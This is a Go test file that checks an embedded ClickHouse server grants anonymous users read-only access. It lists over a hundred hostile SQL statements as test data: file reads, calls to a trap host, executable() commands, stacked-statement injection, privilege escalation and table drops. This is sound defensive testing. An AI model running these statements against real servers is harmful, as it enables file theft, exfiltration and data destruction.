package clickhouse_test

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	engine "flyball/cmd/internal/embedded/clickhouse"
)

// protectedEngine is an engine as `flyball up` starts it: who writes shows a password, who does not reads.
type protectedEngine struct {
	t     testing.TB
	addr  string // clickhouse.listen
	read  string // clickhouse.read_listen
	files string // a folder with a secret file, where statements try to write
	trap  string // host:port that no statement may call

	mu   sync.Mutex
	hits []string
}

const (
	writerUser     = "flyball"
	writerPassword = "0123456789abcdef0123456789abcdef"
	secretText     = "canary-of-the-file-system"
)

func startProtected(t testing.TB) *protectedEngine {
	t.Helper()
	d := &protectedEngine{t: t, files: t.TempDir()}
	trap := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		d.mu.Lock()
		d.hits = append(d.hits, r.Method+" "+r.URL.Path)
		d.mu.Unlock()
		fmt.Fprintln(w, "1")
	}))
	t.Cleanup(trap.Close)
	d.trap = trap.Listener.Addr().String()
	s, _ := supervised(t, t.TempDir(), func(o *engine.Options) {
		o.User, o.Password, o.AnonymousReads, o.ReadListen = writerUser, writerPassword, true, "127.0.0.1:0"
	})
	d.addr, d.read = s.Addr(), s.ReadAddr()
	if err := os.WriteFile(filepath.Join(d.files, "secret"), []byte(secretText), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, q := range []string{"CREATE DATABASE flyball ENGINE = Atomic",
		"CREATE TABLE flyball.t (x UInt64) ENGINE = MergeTree ORDER BY x",
		"INSERT INTO flyball.t SELECT number FROM numbers(10)", "CREATE VIEW flyball.v AS SELECT * FROM flyball.t",
		"CREATE DATABASE other ENGINE = Atomic", "CREATE TABLE other.s (x String) ENGINE = MergeTree ORDER BY x",
		"INSERT INTO other.s VALUES ('" + secretText + "')"} {
		if got := d.write(q); got.status != 200 {
			t.Fatalf("%s: %s", q, got.body)
		}
	}
	return d
}

func (d *protectedEngine) write(q string) reply {
	d.t.Helper()
	return send(d.t, d.addr, request{header: login(), body: strings.NewReader(q)})
}

func login() map[string]string {
	return map[string]string{"X-ClickHouse-User": writerUser, "X-ClickHouse-Key": writerPassword}
}

// unharmed fails the test if something was written, fetched or shown.
func (d *protectedEngine) unharmed(what string, got reply) {
	d.t.Helper()
	if strings.Contains(got.body, secretText) {
		d.t.Errorf("%s: shows the secret: %s", what, got.body)
	}
	d.mu.Lock()
	if len(d.hits) > 0 {
		d.t.Errorf("%s: made the requests %v", what, d.hits)
	}
	d.hits = nil
	d.mu.Unlock()
	entries, err := os.ReadDir(d.files)
	if err != nil || len(entries) != 1 {
		d.t.Errorf("%s: wrote a file: %v %v", what, entries, err)
	}
}

// state is everything that a statement could have changed in the engine.
func (d *protectedEngine) state() string {
	return d.write(`SELECT
		(SELECT groupArray((database, name, create_table_query)) FROM (SELECT * FROM system.tables
			WHERE database NOT IN ('system', 'INFORMATION_SCHEMA', 'information_schema') ORDER BY 1, 2)),
		(SELECT groupArray(x) FROM (SELECT x FROM flyball.t ORDER BY x)),
		(SELECT count() FROM system.databases), (SELECT groupArray(name) FROM system.functions WHERE origin != 'System'),
		(SELECT count() FROM system.users), (SELECT count() FROM system.detached_parts),
		(SELECT groupArray(name) FROM system.named_collections)`).body
}

// attacks are statements that must not do what they say. FILES and TRAP are replaced.
var attacks = strings.Split(strings.TrimSpace(`
SELECT * FROM file('FILES/secret','LineAsString','x String')
SELECT file('FILES/secret')
SELECT FILE('FILES/secret')
SELECT `+"`file`"+`('FILES/secret')
SELECT "file"('FILES/secret')
SELECT/**/file/* c */(/**/'FILES/secret')
SELECT * APPLY file FROM values('x String', 'FILES/secret')
SELECT * APPLY(file) FROM values('x String', 'FILES/secret')
SELECT arrayMap(file, ['FILES/secret'])
SELECT arrayMap(x -> file(x), ['FILES/secret'])
WITH (x -> file(x)) AS f SELECT f('FILES/secret')
SELECT 1 WHERE '1' IN (SELECT * FROM file('FILES/secret','LineAsString','x String'))
SELECT 1 IN file('FILES/secret','LineAsString','x String')
SELECT * FROM (SELECT * FROM (SELECT file('FILES/secret')))
SELECT * FROM 'FILES/secret'
SELECT * FROM `+"`FILES/secret`"+`
DESCRIBE TABLE file('FILES/secret')
DESC file('FILES/secret')
DESCRIBE TABLE url('http://TRAP/d','CSV')
DESCRIBE TABLE (SELECT * FROM url('http://TRAP/d2'))
EXPLAIN PLAN SELECT * FROM file('FILES/secret','LineAsString','x String')
EXPLAIN PIPELINE SELECT * FROM url('http://TRAP/e','CSV','x String')
EXPLAIN TABLE OVERRIDE mysql('TRAP','d','t','u','p')
SELECT * FROM url('http://TRAP/x','LineAsString','x String')
select * from URL('http://TRAP/x','LineAsString','x String')
SELECT * FROM urlCluster('default','http://TRAP/x','LineAsString','x String')
WITH a AS (SELECT * FROM url('http://TRAP/c','LineAsString','x String')) SELECT * FROM a
SELECT * FROM s3('http://TRAP/b/k','CSV','x String')
SELECT * FROM gcs('http://TRAP/b/k','CSV','x String')
SELECT * FROM iceberg('http://TRAP/b/k')
SELECT * FROM deltaLakeLocal('FILES')
SELECT * FROM hdfs('hdfs://TRAP/x','CSV','x String')
SELECT * FROM azureBlobStorage('DefaultEndpointsProtocol=http;BlobEndpoint=http://TRAP','c','b')
SELECT * FROM remote('TRAP','flyball','t')
SELECT * FROM remoteSecure('TRAP','flyball','t')
SELECT * FROM remote('127.0.0.1', other, s)
SELECT * FROM mysql('TRAP','d','t','u','p')
SELECT * FROM postgresql('TRAP','d','t','u','p')
SELECT * FROM mongodb('TRAP','d','t','u','p','x String')
SELECT * FROM redis('TRAP','k','k String')
SELECT * FROM odbc('DSN=x','t')
SELECT * FROM jdbc('http://TRAP/','t')
SELECT * FROM arrowstream('http://TRAP/')
SELECT * FROM executable('cat FILES/secret','TSV','x String')
SELECT * FROM executable('touch','TSV','x String',(SELECT 'FILES/w'))
SELECT * FROM sqlite('FILES/w.db','t')
SELECT * FROM filesystem('FILES')
SELECT * FROM cluster('default', other, s)
SELECT * FROM clusterAllReplicas('default', other.s)
SELECT * FROM merge('other','.*')
SELECT * FROM merge(REGEXP('oth.*'),'.*')
SELECT * FROM loop(other, s) LIMIT 1
SELECT * FROM mergeTreeIndex('other','s')
SELECT * FROM dictionary('other.s')
SELECT * FROM viewExplain('EXPLAIN', '', (SELECT * FROM other.s))
SELECT * FROM viewIfPermitted(SELECT * FROM other.s ELSE null('x String'))
SELECT * FROM eval('SELECT * FROM other.s')
SELECT * FROM prometheusQuery('other','s','up',1)
SELECT * FROM other.s
SELECT * FROM `+"`other`.`s`"+`
SELECT x FROM flyball.t UNION ALL SELECT length(x) FROM other.s
SELECT (SELECT any(x) FROM other.s)
SELECT x FROM flyball.t WHERE x IN (SELECT length(x) FROM other.s)
SELECT * FROM flyball.t AS a JOIN other.s AS b ON 1 = 1
SELECT joinGet('other.s','x','k')
SELECT dictGet('other.s','x',1)
SELECT hasColumnInTable('other','s','x')
DESCRIBE other.s
SHOW CREATE TABLE other.s
EXPLAIN QUERY TREE SELECT * FROM other.s
EXPLAIN ESTIMATE SELECT * FROM other.s
SELECT * FROM system.processes
SELECT * FROM `+"`system`.`processes`"+`
SELECT * FROM "system" . /* c */ "processes"
SELECT * FROM system.users
SELECT * FROM system.disks
SELECT * FROM system.stack_trace
SHOW PROCESSLIST
SHOW ACCESS
SHOW USERS
SELECT 1 INTO OUTFILE 'FILES/out'
SELECT 1 into/**/outfile 'FILES/out' APPEND
SELECT 1 INTO OUTFILE 'FILES/out' AND STDOUT
SELECT $h$'$h$ INTO OUTFILE 'FILES/out' --'
SELECT ‘a’ INTO OUTFILE 'FILES/out'
(SELECT 1) UNION ALL (SELECT 2) INTO OUTFILE 'FILES/out'
EXPLAIN SELECT 1 INTO OUTFILE 'FILES/out'
SHOW TABLES INTO OUTFILE 'FILES/out'
INSERT INTO flyball.t VALUES (99)
INSERT INTO flyball.t SELECT 99
insert into flyball.t format TSV 99
INSERT INTO flyball.t FROM INFILE 'FILES/secret' FORMAT CSV
INSERT INTO FUNCTION file('FILES/w','TSV','x String') SELECT 'x'
INSERT INTO FUNCTION url('http://TRAP/i','TSV','x String') SELECT 'x'
INSERT INTO FUNCTION remote('TRAP','flyball','t') SELECT 1
INSERT INTO FUNCTION null('x UInt8') SELECT 1
INSERT INTO TABLE FUNCTION file('FILES/w','TSV','x String') VALUES ('x')
WITH a AS (SELECT 99 AS x) INSERT INTO flyball.t SELECT x FROM a
/* SELECT */ INSERT INTO flyball.t VALUES (99)
-- SELECT 1\nINSERT INTO flyball.t VALUES (99)
SELECT 1; INSERT INTO flyball.t VALUES (99)
SELECT $h$'$h$; INSERT INTO flyball.t VALUES (99) --'
SELECT 1;;DROP TABLE flyball.t
CREATE TABLE flyball.n (x UInt8) ENGINE = Memory
CREATE TABLE flyball.n ENGINE = Memory AS SELECT 1
CREATE TABLE flyball.n (x String) ENGINE = URL('http://TRAP/','CSV')
CREATE TABLE flyball.n (x String) ENGINE = File(CSV, 'FILES/w')
CREATE TEMPORARY TABLE n (x String) ENGINE = File(CSV, 'FILES/w')
CREATE TEMPORARY TABLE n (x String)
CREATE VIEW flyball.n AS SELECT * FROM other.s
CREATE MATERIALIZED VIEW flyball.n ENGINE = Memory AS SELECT * FROM other.s
CREATE DATABASE n
CREATE DATABASE n ENGINE = Filesystem('FILES')
CREATE FUNCTION n AS (x) -> file(x)
CREATE DICTIONARY flyball.n (x UInt64) PRIMARY KEY x SOURCE(HTTP(url 'http://TRAP/' format 'CSV')) LAYOUT(FLAT()) LIFETIME(1)
CREATE NAMED COLLECTION n AS a = 1
CREATE USER n
CREATE ROLE n
GRANT ALL ON *.* TO default
SET ROLE flyball_writer
SET DEFAULT ROLE NONE TO default
SET readonly = 0
SET max_memory_usage = 0
USE other
ALTER TABLE flyball.t DELETE WHERE 1
ALTER TABLE flyball.t ADD COLUMN y UInt8
ALTER TABLE flyball.t DETACH PARTITION ALL
DELETE FROM flyball.t WHERE 1
UPDATE flyball.t SET x = 1 WHERE 1
OPTIMIZE TABLE flyball.t FINAL
TRUNCATE TABLE flyball.t
TRUNCATE DATABASE flyball
DROP TABLE flyball.v
DROP DATABASE flyball
RENAME TABLE flyball.t TO flyball.n
EXCHANGE TABLES flyball.t AND flyball.v
DETACH TABLE flyball.t
ATTACH TABLE flyball.n
UNDROP TABLE flyball.n
MOVE PARTITION '1' FROM flyball.t TO flyball.t
KILL QUERY WHERE 1
KILL MUTATION WHERE 1
SYSTEM STOP MERGES
SYSTEM SHUTDOWN
SYSTEM FLUSH LOGS
SYSTEM DROP MARK CACHE
CHECK TABLE flyball.t
BACKUP TABLE flyball.t TO File('FILES/bk')
RESTORE TABLE flyball.n FROM File('FILES/bk')
EXECUTE AS default SELECT 1
BEGIN TRANSACTION
WATCH flyball.v
SELECT 1 SETTINGS readonly = 0
SELECT 1 SETTINGS max_memory_usage = 0
SELECT 1 SETTINGS output_format_json_quote_64bit_integers = 0, max_memory_usage = 0
SELECT 1 SETTINGS extremes = 0, log_comment = 'x', max_execution_time = 0 FORMAT CSV
SELECT 1 FROM (SELECT 1 SETTINGS extremes = 0) SETTINGS max_threads = 64
SELECT * FROM file('FILES/secret','LineAsString','x String') SETTINGS extremes = 0
SELECT * FROM executable('touch','TSV','x String',(SELECT 'FILES/w')) SETTINGS extremes = 0
INSERT INTO FUNCTION null('x UInt8') SETTINGS extremes = 0 SELECT 1
CREATE TEMPORARY TABLE n ENGINE = Memory AS SELECT 1 SETTINGS extremes = 0
SELECT 1 SETTINGS format_schema = 'x:y', extremes = 0
SELECT * FROM (SELECT 1 SETTINGS max_execution_time = 0)
SELECT x FROM flyball.t WHERE x IN (SELECT 1 SETTINGS max_threads = 64)
SELECT * FROM view(SELECT 1 SETTINGS max_memory_usage = 0)
SELECT 1 FORMAT Template SETTINGS format_template_resultset = 'FILES/secret'
SELECT aiGenerate('c', 'x')
SELECT catboostEvaluate('FILES/secret', 1)
SELECT logTrace('x')
SELECT getClientHTTPHeader('Authorization')
`), "\n")

func TestStatementOfAnAnalystReachesNothingButReading(t *testing.T) {
	d := startProtected(t)
	before := d.state()
	if !strings.Contains(before, "flyball.t") || len(attacks) < 60 {
		t.Fatalf("%d attacks on %q", len(attacks), before)
	}
	replace := strings.NewReplacer("FILES", d.files, "TRAP", d.trap, `\n`, "\n")
	for _, a := range attacks {
		a = replace.Replace(a)
		for what, r := range map[string]request{
			"anonymous POST":       {body: strings.NewReader(a)},
			"anonymous GET":        {method: http.MethodGet, params: url.Values{"query": {a}}},
			"GET with a password":  {method: http.MethodGet, params: url.Values{"query": {a}}, header: login()},
			"HEAD with a password": {method: http.MethodHead, params: url.Values{"query": {a}}, header: login()},
		} {
			got := send(t, d.addr, r)
			d.unharmed(what+": "+a, got)
			if got.status == 200 {
				t.Errorf("%s: %s: %d %q", what, a, got.status, got.body)
			}
		}
		got := send(t, d.read, request{header: login(), body: strings.NewReader(a)})
		d.unharmed("readers' listener: "+a, got)
		if got.status == 200 {
			t.Errorf("readers' listener: %s: %q", a, got.body)
		}
	}
	if after := d.state(); after != before {
		t.Errorf("changed from\n%s\nto\n%s", before, after)
	}
}

// Everything beside the statement that a client sends.
func TestRequestOfAnAnalystLiftsNothing(t *testing.T) {
	d := startProtected(t)
	before := d.state()
	insert := "INSERT INTO flyball.t VALUES (99)"
	packed := func(s string) *bytes.Buffer {
		var b bytes.Buffer
		z := gzip.NewWriter(&b)
		_, _ = z.Write([]byte(s))
		_ = z.Close()
		return &b
	}
	form := "--b\r\nContent-Disposition: form-data; name=\"query\"\r\n\r\n" + insert + "\r\n--b--\r\n"
	refused := map[string]request{
		"readonly=0":       {params: url.Values{"readonly": {"0"}}, body: strings.NewReader(insert)},
		"readonly=2":       {params: url.Values{"readonly": {"2"}}, body: strings.NewReader("SET max_threads = 1")},
		"query in the URL": {params: url.Values{"query": {insert}}},
		"query in both":    {params: url.Values{"query": {"INSERT INTO flyball.t FORMAT TSV"}}, body: strings.NewReader("99\n")},
		"a form": {header: map[string]string{"Content-Type": "multipart/form-data; boundary=b"},
			body: strings.NewReader(form)},
		"gzip":                   {header: map[string]string{"Content-Encoding": "gzip"}, body: packed(insert)},
		"database":               {params: url.Values{"database": {"other"}}, body: strings.NewReader("SELECT * FROM s")},
		"database of the engine": {params: url.Values{"database": {"system"}}, body: strings.NewReader("SELECT * FROM processes")},
		"database header": {header: map[string]string{"X-ClickHouse-Database": "other"},
			body: strings.NewReader("SELECT * FROM s")},
		"a setting of the server": {params: url.Values{"additional_table_filters": {"{'flyball.t': '1'}"}},
			body: strings.NewReader("SELECT 1")},
		"format schema": {params: url.Values{"format_schema": {"x:y"}}, body: strings.NewReader("SELECT 1 FORMAT Protobuf")},
		"template": {params: url.Values{"format_template_row": {d.files + "/secret"}},
			body: strings.NewReader("SELECT 1 FORMAT Template")},
		"a name as parameter": {params: url.Values{"param_t": {"s"}, "param_d": {"other"}},
			body: strings.NewReader("SELECT * FROM {d:Identifier}.{t:Identifier}")},
		"a role":       {params: url.Values{"role": {"flyball_writer"}}, body: strings.NewReader(insert)},
		"another user": {header: map[string]string{"X-ClickHouse-User": "root"}, body: strings.NewReader("SELECT 1")},
		"a wrong password": {header: map[string]string{"X-ClickHouse-User": writerUser, "X-ClickHouse-Key": "x"},
			body: strings.NewReader("SELECT 1")},
		"the name alone":        {header: map[string]string{"X-ClickHouse-User": writerUser}, body: strings.NewReader(insert)},
		"another site":          {header: map[string]string{"Origin": "http://evil.example"}, body: strings.NewReader("SELECT 1")},
		"another host":          {header: map[string]string{"Host": "evil.example"}, body: strings.NewReader("SELECT 1")},
		"PUT":                   {method: http.MethodPut, body: strings.NewReader(insert)},
		"a very long statement": {body: strings.NewReader("SELECT 1 /* " + strings.Repeat("x", 1<<20) + " */")},
	}
	for what, r := range refused {
		got := send(t, d.addr, r)
		d.unharmed(what, got)
		if got.status == 200 {
			t.Errorf("%s: %q", what, got.body)
		}
	}
	show := func(setting, value string) reply {
		return send(t, d.addr, request{params: url.Values{setting: {value}},
			body: strings.NewReader("SELECT toString(getSetting('" + setting + "'))")})
	}
	for setting, own := range map[string]string{"max_memory_usage": "536870912", "max_execution_time": "1800"} {
		for _, v := range []string{"0", "99999999999999", "-1"} {
			got := show(setting, v)
			if got.body != own+"\n" {
				t.Errorf("%s=%s: %d %q, the limit of the options is %s", setting, v, got.status, got.body, own)
			}
		}
		got := show(setting, "7")
		if got.body != "7\n" {
			t.Errorf("a narrower %s: %q", setting, got.body)
		}
	}
	if after := d.state(); after != before {
		t.Errorf("changed from\n%s\nto\n%s", before, after)
	}
}

func TestAnalystReadsWithoutAPassword(t *testing.T) {
	d := startProtected(t)
	reads := []string{
		"SELECT count() FROM flyball.t", "SELECT count() FROM flyball.v", "WITH a AS (SELECT * FROM flyball.t) SELECT count() FROM a",
		"(SELECT 1) UNION ALL (SELECT 2)", "SELECT * FROM numbers(3)", "SELECT name FROM system.tables WHERE database = 'flyball'",
		"SHOW TABLES FROM flyball", "SHOW DATABASES", "DESCRIBE flyball.v", "SHOW CREATE TABLE flyball.t",
		"EXPLAIN SELECT * FROM flyball.t",
		"EXPLAIN indexes = 1 SELECT * FROM flyball.t", "EXISTS TABLE flyball.t", "SELECT 1 FORMAT JSON", "SELECT 1 AS `select`;",
		"SELECT 'INTO OUTFILE', 'file', 'system.processes', 'SETTINGS a = 1'", "SELECT version(), hostName(), timezone()",
		"SELECT 1 AS x SETTINGS output_format_json_quote_64bit_integers = 0, extremes = 0 FORMAT JSONEachRow", "SELECT 1 AS settings",
		"SELECT format('{}', 'x')", "SELECT x, count() FROM flyball.t GROUP BY x WITH TOTALS", "SELECT 1 -- file('x')",
	}
	for _, q := range reads {
		for what, r := range map[string]request{"POST": {},
			"GET":        {method: http.MethodGet, params: url.Values{"query": {q}}},
			"as default": {header: map[string]string{"X-ClickHouse-User": "default"}}} {
			for name, addr := range map[string]string{"listen": d.addr, "read_listen": d.read} {
				if r.method == "" {
					r.body = strings.NewReader(q)
				}
				if got := send(t, addr, r); got.status != 200 {
					t.Errorf("%s, %s: %s: %d %s", name, what, q, got.status, got.body)
				}
			}
		}
	}
	shown := send(t, d.addr, request{
		body: strings.NewReader("SELECT arrayStringConcat(arraySort(groupArray(name)), ' ') FROM system.databases")})
	if shown.body != "flyball\n" {
		t.Errorf("an analyst sees the databases %q", shown.body)
	}
	got := send(t, d.addr, request{params: url.Values{"output_format_json_quote_64bit_integers": {"1"}},
		body: strings.NewReader("SELECT toUInt64(1) AS x FORMAT JSONEachRow")})
	if got.body != "{\"x\":\"1\"}\n" {
		t.Errorf("a setting of the format: %d %q", got.status, got.body)
	}
}

// New functions of another engine must be looked at before an analyst can call them: by name they could read a file or make a request.
func TestFunctionsOfTheEngineWereLookedAt(t *testing.T) {
	d := startProtected(t)
	got := d.write(`SELECT name FROM system.functions WHERE NOT is_aggregate AND alias_to = '' AND categories IN
		('', 'Other', 'AI', 'Machine Learning', 'Introspection', 'Internal', 'Encryption') ORDER BY name FORMAT TSVRaw`).body
	const file = "testdata/functions.txt"
	if os.Getenv("FLYBALL_UPDATE_FUNCTIONS") != "" {
		if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	known := strings.Fields(string(want))
	for _, f := range strings.Fields(got) {
		if !slices.Contains(known, f) {
			t.Errorf("function %s is new: if it reads files, calls hosts or shows others' data, add it to deniedNames; then to %s",
				f, file)
		}
	}
}

func TestPasswordIsInNoArgumentAndNoEnvironment(t *testing.T) {
	s, _ := supervised(t, t.TempDir(), func(o *engine.Options) {
		o.User, o.Password, o.AnonymousReads = writerUser, writerPassword, true
	})
	for _, name := range []string{"cmdline", "environ"} {
		b, err := os.ReadFile(fmt.Sprintf("/proc/%d/%s", s.PID(), name))
		if err != nil {
			t.Skip("SKIPPED: no /proc: ", err)
		}
		if strings.Contains(string(b), writerPassword) {
			t.Errorf("%s of the engine holds the password", name)
		}
	}
}

func TestSecretsOfTheEnvironmentAreNotTheEngines(t *testing.T) {
	t.Setenv("FLYBALL_TOKEN", secretText)
	t.Setenv("AWS_SECRET_ACCESS_KEY", secretText)
	s, _ := supervised(t, t.TempDir())
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/environ", s.PID()))
	if err != nil {
		t.Skip("SKIPPED: no /proc: ", err)
	}
	if strings.Contains(string(b), secretText) {
		t.Errorf("the engine's environment holds a secret: %q", b)
	}
}

// A config.xml beside the process would otherwise configure the engine, its users included.
func TestConfigurationBesideTheProcessIsNotTheEngines(t *testing.T) {
	t.Chdir(t.TempDir())
	if err := os.WriteFile("config.xml", []byte("<clickhouse><display_name>stranger</display_name></clickhouse>"), 0o600); err != nil {
		t.Fatal(err)
	}
	exe, err := os.Executable()
	if err != nil || !filepath.IsAbs(exe) {
		t.Fatal(exe, err)
	}
	s, _ := supervised(t, t.TempDir())
	got := send(t, s.Addr(), request{body: strings.NewReader("SELECT displayName()")})
	if strings.Contains(got.body, "stranger") {
		t.Errorf("the engine read config.xml of the working directory: %s", got.body)
	}
}
